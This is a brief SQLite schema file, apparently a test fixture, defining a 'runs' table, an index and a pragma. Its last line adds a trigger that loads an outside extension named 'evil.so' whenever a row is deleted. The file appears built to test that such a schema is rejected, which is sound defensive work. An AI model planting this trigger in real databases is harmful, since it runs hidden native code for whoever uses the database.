-- asks for extensions and files
CREATE TABLE runs (run TEXT PRIMARY KEY, dir TEXT NOT NULL, started TEXT NOT NULL, started_utc TEXT NOT NULL, question TEXT NOT NULL, place TEXT NOT NULL, accelerator TEXT, rounds INTEGER NOT NULL, stacks INTEGER NOT NULL, workloads INTEGER NOT NULL, cells INTEGER NOT NULL, failed INTEGER NOT NULL, sealed INTEGER NOT NULL) STRICT; CREATE INDEX runs_by_time ON runs (started_utc DESC, run DESC); PRAGMA user_version = 1;
CREATE TRIGGER t AFTER DELETE ON runs BEGIN SELECT load_extension('@OUTSIDE@/evil.so'); END;
